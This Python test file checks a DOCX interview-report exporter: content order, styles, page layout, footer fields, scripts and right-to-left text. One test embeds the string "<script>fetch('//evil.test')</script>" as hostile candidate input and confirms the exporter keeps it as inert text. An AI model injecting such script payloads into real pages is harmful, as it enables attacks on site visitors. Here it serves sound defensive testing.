"""The DOCX, opened again by python-docx."""

import io
import re
import zipfile
from typing import Any

import pytest
from docx import Document
from docx.enum.text import WD_TAB_ALIGNMENT

from src.reports.word import to_word
from tests.factory import setup
from tests.reports.samples import HOSTILE, JOINED, SCRIPTS, empty_file, report_file


def opened(data: bytes) -> Any:  # noqa: ANN401 - python-docx has no types
    """Return the document."""
    return Document(io.BytesIO(data))


def text_of(data: bytes) -> str:
    """Return every paragraph, a line each."""
    return "\n".join(p.text for p in opened(data).paragraphs)


def test_everything_of_the_report_is_in_it() -> None:
    """In the order of the page, with the transcript last."""
    text = text_of(to_word(report_file()))
    places = [
        text.index(wanted)
        for wanted in (
            "Backend engineer at Northwind",
            "6.3 / 10",
            "Rests on 8 graded answers",
            "“from forty seconds to two”",
            "“refresh the statistics”",
            "1 · APIs · 6.5 / 10",
            "✓ plan “read the query plan”",
            "✗ prevention not mentioned",
            "Not graded. The AI service is busy.",
            "7 · APIs · skipped",
            "Practise incidents – 3.5 of 10.",
            "cost $0.0213",
            "AI-generated, can be wrong.",
            "Thank you for number 20.",
        )
    ]

    assert places == sorted(places)


def test_headings_lists_and_tables_are_words_own() -> None:
    """So that its navigation and its styles work."""
    document = opened(to_word(report_file()))
    styles = [p.style.name for p in document.paragraphs]
    table, by_question = document.tables

    assert styles.count("Heading 1") == 1
    assert styles.count("Heading 3") == 10
    assert {"List Number", "List Bullet"} <= set(styles)
    assert [cell.text for cell in by_question.rows[3].cells] == ["3", "Design", "5 / 10", "4"]
    assert [cell.text for cell in table.rows[1].cells] == [
        "Databases",
        "3.5",
        "2 answers",
        "good",
        "1",
    ]
    assert "tblHeader" in table.rows[0]._tr.xml


def test_the_page_is_a4_numbered_and_described() -> None:
    """Title, language, and a foot that counts."""
    document = opened(to_word(report_file()))
    (section,) = document.sections

    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    assert re.findall(r"<w:instrText>(\w+)<", section.footer._element.xml) == ["PAGE", "NUMPAGES"]
    (stop,) = section.footer.paragraphs[0].paragraph_format.tab_stops
    assert stop.alignment == WD_TAB_ALIGNMENT.RIGHT
    assert not list(section.footer.paragraphs[0].style.paragraph_format.tab_stops)
    assert document.core_properties.title == "Interview report: Backend engineer at Northwind"
    assert document.core_properties.language == "en-US"


def test_candidates_words_are_words_only() -> None:
    """No link, no field, no part that loads anything; signs that XML refuses are left out."""
    data = to_word(report_file(1, HOSTILE, setup=setup(role=HOSTILE[:100])))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name).decode(errors="replace") for name in archive.namelist()}

    assert "<script>fetch('//evil.test')</script>" in text_of(data)
    assert "w:hyperlink" not in parts["word/document.xml"]
    assert not [name for name, part in parts.items() if "TargetMode" in part]
    assert not [name for name in parts if "media" in name]


def test_line_breaks_are_kept() -> None:
    """As the candidate set them."""
    assert "first\nsecond\n\nthird" in text_of(to_word(report_file(1, "first\nsecond\n\nthird")))


@pytest.mark.parametrize(
    "words", [*SCRIPTS.values(), *JOINED.values(), "\U0001f600", "a\x00b\x0bc"]
)
def test_any_script_is_taken(words: str) -> None:
    """Word chooses the fonts."""
    seen = re.sub("[\x00\x0b]", "", words)

    assert seen in text_of(to_word(report_file(1, words)))


def test_an_empty_report_says_so() -> None:
    """No table, no transcript."""
    data = to_word(empty_file())

    assert "Nothing was answered, so there is nothing to score." in text_of(data)
    assert "Transcript" not in text_of(data)
    assert not opened(data).tables


def test_a_very_long_answer_is_whole() -> None:
    """From its first word to its last."""
    text = text_of(to_word(report_file(1, "BEGIN " + "word " * 4000 + "END")))

    assert text.count("BEGIN") == text.count("END") == 2


@pytest.mark.parametrize(("words", "wanted"), [("شكراً thank you", 1), ("thank you شكراً", 0)])
def test_words_from_the_right_begin_there(words: str, wanted: int) -> None:
    """By their first letter; everything around them stays as it is."""
    document = Document(io.BytesIO(to_word(report_file(1, words, transcript=()))))

    assert sum("<w:bidi" in paragraph._p.xml for paragraph in document.paragraphs) == wanted
